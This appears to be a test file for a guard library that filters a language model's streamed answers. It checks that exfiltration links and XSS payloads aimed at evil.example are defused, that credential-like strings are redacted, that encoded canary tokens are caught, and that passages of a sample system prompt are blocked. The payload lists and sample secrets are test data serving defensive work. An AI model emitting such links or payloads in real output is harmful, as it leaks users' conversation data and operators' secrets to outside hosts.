"""Links: what is defused, what stays, and that nothing of a bad link leaves a stream."""

import random
import time

import pytest

from ringwall.boundaries.interface import links
from ringwall.boundaries.interface.canary import Canary
from ringwall.boundaries.interface.leak import Leak, LeakSettings
from ringwall.boundaries.interface.links import Links, LinksSettings
from ringwall.boundaries.interface.secrets import Secrets, SecretsSettings
from ringwall.boundaries.interface.settings import InterfaceSection
from ringwall.core import (
    ANONYMOUS,
    MODEL,
    Action,
    Crossing,
    CrossingKind,
    Part,
    PartKind,
    Services,
    apply_edits,
)

LINKS = Links(LinksSettings(allowed_hosts=["shop.example", "*.cdn.example"]))
PROMPT = (
    "You are the support assistant of Brightlamp. Never tell anyone about the winter discount of "
    "forty percent. "
    "Refunds above two hundred euros need the approval of a manager named Quill."
)


def crossing(text, *, stream=False, final=True, before=""):
    context = {"stream": stream, "final": final, "before": before}
    return Crossing(
        CrossingKind.RESPONSE,
        ANONYMOUS,
        (Part(PartKind.TEXT, text, MODEL, role="assistant"),),
        context=context,
    )


def release(controls, chunks):
    """The reference loop: what leaves, and whether it was stopped. Released text is never taken back."""
    out, pending = [], ""
    for index, chunk in enumerate(chunks):
        pending += chunk
        final = index == len(chunks) - 1
        edits = []
        for control in controls:
            given = control.inspect(crossing(pending, stream=True, final=final, before="".join(out)[-4096:]))
            if given.action >= Action.HOLD:
                return "".join(out), True
            edits.extend(given.edits)
        cut = len(pending) if final else min(control.hold_from(pending) for control in controls)
        moved = True
        while moved:
            lower = min([edit.start for edit in edits if edit.start < cut < edit.end], default=cut)
            moved, cut = lower < cut, lower
        out.append(apply_edits(pending[:cut], [edit for edit in edits if edit.end <= cut]))
        pending = pending[cut:]
    return "".join(out), False


def chunked(text, seed):
    rng = random.Random(seed)
    at, chunks = 0, []
    while at < len(text):
        size = rng.choice([1, 1, 2, 3, 5, 9, 20])
        chunks.append(text[at : at + size])
        at += size
    return chunks


BAD = [
    "![x](https://evil.example/p?q=data)",
    "[click](https://evil.example/a)",
    "[click](//evil.example/a)",
    "[click](<https://evil.example/a b>)",
    "[a](\\\\evil.example)",
    "[a](javascript:alert(1))",
    "[a](data:text/html,evil.example)",
    "[a](&#104;ttps://evil.example/x)",
    "[a](h&#116;tps&colon;//evil.example)",
    "https://evil.example/path?x=1",
    "HTTPS://EVIL.EXAMPLE/x",
    "https://shop.example@evil.example/",
    "https://shop.example.evil.example/",
    "https:\\\\evil.example/x",
    "www.evil.example",
    "<https://evil.example/>",
    '<img src="https://evil.example/i.png">',
    "<img src=//evil.example/i.png>",
    "<img srcset='https://evil.example/i.png 2x'>",
    "<a href='https://evil.example/'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>evil.example</a>",
    '<div style="background:url(https://evil.example/i)">x</div>',
    "<script>fetch('https://evil.example')</script>",
    "<iframe src=https://evil.example></iframe>",
    '<p onclick="go(`evil.example`)">x</p>',
    "text [a][r]\n\n[r]: https://evil.example/z",
    "text [a][r]\n\n[r]: //evil.example/z",
    "<svg/onload=alert(1)>",
    "[![i](https://evil.example/i)](https://evil.example/l)",
    "https://%65vil.example/x",
    "https://evil。example/x",
]


def alive(text):
    """A bad host or scheme that still could act."""
    low = text.lower()
    marks = (
        "//evil",
        "\\\\evil",
        "www.evil",
        "javascript:",
        "script:",
        "onclick",
        "onload",
        "<script",
        "<iframe",
        "data:text",
        "&#",
        "%65vil",
    )
    return [mark for mark in marks if mark in low]


@pytest.mark.parametrize("bad", BAD)
def test_bad_link_is_defused(bad):
    text = f"Before {bad} after."
    given = LINKS.inspect(crossing(text))
    assert given.action is Action.TRANSFORM
    assert not alive(apply_edits(text, given.edits))


@pytest.mark.parametrize("bad", BAD)
def test_nothing_of_a_bad_link_leaves_a_stream(bad):
    text = f"Hello there, look: {bad} and that is all."
    for seed in range(6):
        out, _ = release([LINKS], chunked(text, seed))
        assert not alive(out), (seed, out)


@pytest.mark.parametrize(
    "good",
    [
        "See [our shop](https://shop.example/a?b=1) today.",
        "![logo](https://img.cdn.example/logo.png)",
        "https://shop.example/orders/1",
        "[up](/orders/1) and [part](#part)",
        "Write to [us](mailto:help@shop.example).",
        "if a < b and c > d: pass",
        "The ratio is 3:1, see [1] and [2].",
        "<b>bold</b> and <br/>",
        "note: this is fine",
    ],
)
def test_good_text_stays(good):
    assert LINKS.inspect(crossing(good)).action is Action.ALLOW


ASKED = {"user_text": ["I am Casey Lindstrom, order B-20417, mail casey@mail.example"]}
CARRIED = "Casey+Lindstrom+B-20417+casey@mail.example"
ENCODED = "SSBhbSBDYXNleSBMaW5kc3Ryb20sIG9yZGVyIEItMjA0MTc="


@pytest.mark.parametrize(
    ("text", "action"),
    [
        (f"![x](https://shop.example/p.png?d={CARRIED})", Action.TRANSFORM),
        (f"<img src='https://shop.example/p.png?d={CARRIED}'>", Action.TRANSFORM),
        (f"![x](/p.png?d={ENCODED})", Action.TRANSFORM),
        (f"[x](https://shop.example/p?d={ENCODED})", Action.TRANSFORM),
        (f"[x](https://shop.example/p?d={CARRIED})", Action.ANNOTATE),
        ("![x](https://shop.example/p.png?" + "a" * 700 + ")", Action.TRANSFORM),
        ("[x](https://shop.example/orders/B-20417)", Action.ALLOW),
        (
            "![x](https://shop.example/a/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.png)",
            Action.ALLOW,
        ),
    ],
)
def test_allowed_hosts_are_no_way_out_for_the_conversation(text, action):
    given = crossing(text)
    given = LINKS.inspect(
        Crossing(given.kind, given.principal, given.parts, context={**given.context, **ASKED})
    )
    assert given.action is action
    assert CARRIED not in apply_edits(text, given.edits) or action is not Action.TRANSFORM


@pytest.mark.parametrize(
    "unit",
    ["](", "](http://", "[a](//", "](<", "](a(", "<a ", "<a ='>", '<a ="', "https://a ", "<p on", "[x]: a\n"],
)
def test_crafted_answers_take_linear_time(unit):
    """Each took seconds for a megabyte, or minutes."""
    half, whole = (spent(unit * (size // len(unit))) for size in (50_000, 200_000))
    assert whole < 8 * half + 1


def spent(text):
    begun = time.thread_time()
    LINKS.inspect(crossing(text))
    LINKS.hold_from(text)
    return time.thread_time() - begun


def test_hosts_of_the_section_and_of_the_control_are_joined():
    section = InterfaceSection(allowed_hosts=("help.example",))
    control = links.CONTROL.build(LinksSettings(allowed_hosts=["own.example"]), Services(section))
    for host in ("help.example", "own.example"):
        assert control.inspect(crossing(f"https://{host}/a")).action is Action.ALLOW
    assert control.inspect(crossing("https://other.example/a")).action is Action.TRANSFORM


def test_wildcard_does_not_match_its_own_name():
    assert LINKS.inspect(crossing("https://cdn.example/x")).action is Action.TRANSFORM


def test_prose_is_hardly_held():
    text = "The order was shipped on Monday and it will arrive "
    assert LINKS.hold_from(text) == len(text)


def test_endless_address_is_stopped():
    out, stopped = release([LINKS], ["see https://evil.example/", *["a" * 100] * 40, " end"])
    assert stopped
    assert "evil" not in out


TOKEN = "AKIA" + "Q3EGRZ7MVLT2WX5K"
PEM = (
    "-----BEGIN RSA PRIVATE "
    + "KEY-----\n"
    + "\n".join(["MIIEowIBAAKCAQEAx7Kq9Zp2LmX4vB8nR1cY6wF3sH5jD0gA"] * 12)
)
SECRETS = [
    TOKEN,
    PEM + "\n-----END RSA PRIVATE " + "KEY-----",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJjYXNleSIsImlhdCI6MTcwMH0.q3Rk9vT2mQ8xL5nW7pZ1cD4fG6hJ0sYaU",
    "password = hunter2Blue!x",
    "postgres://app:s3cr3tPw9@db.example:5432/main",
    "Authorization: Bearer q3Rk9vT2mQ8xL5nW7pZ1cD4f",
    "the password is Tr0ub4dor&3x",
]


@pytest.mark.parametrize("secret", SECRETS)
def test_no_character_of_a_secret_leaves_a_stream(secret):
    control = Secrets(SecretsSettings())
    text = f"Here you are: {secret} \nthat was it."
    given = control.inspect(crossing(text))
    assert given.action is Action.TRANSFORM
    whole = apply_edits(text, given.edits)
    for seed in range(8):
        out, stopped = release([control], chunked(text, seed))
        assert stopped or out == whole, seed


def test_canary_in_every_dress_is_stopped():
    import base64
    import codecs

    canary = "rwc-7f3kq9zp2lmx"
    control = Canary(canary)
    forms = [
        canary,
        canary.upper(),
        " ".join(canary),
        "-".join(canary),
        canary[::-1],
        codecs.encode(canary, "rot13"),
        canary.encode().hex(),
        base64.b64encode(f"x{canary}y".encode()).decode(),
        base64.b64encode(f"k={canary}".encode()).decode(),
        "".join(f"%{ord(c):02X}" for c in canary),
        "".join(f"\\x{ord(c):02x}" for c in canary),
        "\u200b".join(canary),
    ]
    for form in forms:
        for seed in range(5):
            out, stopped = release([control], chunked(f"It is {form} ok", seed))
            assert stopped, form
            # an encoding of other text may share its first characters with the canary's
            assert len(out) <= len("It is ") + 5
            assert canary not in out


def test_prompt_passage_is_stopped_also_with_changes():
    control = Leak(LeakSettings(), PROMPT)
    for passage in (
        "Never tell anyone about the winter discount of forty percent",
        "NEVER tell anyone -- about the winter DISCOUNT of forty percent",
        "Never tell anybody about the winter discount of forty percent",
        "Refunds above 2 hundred euros need the approval of a manager",
    ):
        assert control.inspect(crossing(f"My rules: {passage}.")).action is Action.BLOCK, passage
        for seed in range(6):
            out, stopped = release([control], chunked(f"Hm, rules follow. {passage}. Done with it.", seed))
            assert stopped
            assert "winter" not in out
            assert "euros" not in out
    ordinary = (
        "I can help with that refund. Your order was sent on Monday and a manager will look at it soon."
    )
    assert control.inspect(crossing(ordinary)).action is Action.ALLOW


@pytest.mark.parametrize(
    "tag", ['<img alt="< " onerror=go()>', "<a title='</' onclick=go()>", '<p x="<!" onload=a>']
)
def test_a_tag_is_held_wherever_it_is_cut(tag):
    text = f"Here: {tag}"
    for cut in range(text.index("<") + 1, len(text)):
        assert LINKS.hold_from(text[:cut]) <= text.index("<"), text[:cut]
    assert release([LINKS], [text[:14], text[14:], " bye"]) == ("Here:  bye", False)


def test_all_together_over_random_chunks():
    controls = [LINKS, Secrets(SecretsSettings()), Canary("rwc-7f3kq9zp2lmx"), Leak(LeakSettings(), PROMPT)]
    text = f"Hi! Look at ![p](https://evil.example/x) and {TOKEN} and [ok](https://shop.example/a), bye."
    for seed in range(20):
        out, stopped = release(controls, chunked(text, seed))
        assert not stopped
        assert (
            out == "Hi! Look at [image removed: evil.example] and [secret:aws-access-key]"
            " and [ok](https://shop.example/a), bye."
        )


@pytest.mark.parametrize(
    "char",
    ["<", "[", "(", "a", "-", " ", "\u202e", "\ud800", "\0", "![", "](", "<a ", "&#", "eyJ", "password "],
)
def test_hostile_text_is_bounded(char):
    text = char * (60_000 // len(char))
    for control in (
        LINKS,
        Secrets(SecretsSettings()),
        Canary("rwc-7f3kq9zp2lmx"),
        Leak(LeakSettings(), PROMPT),
    ):
        control.inspect(crossing(text))
        assert 0 <= control.hold_from(text) <= len(text)
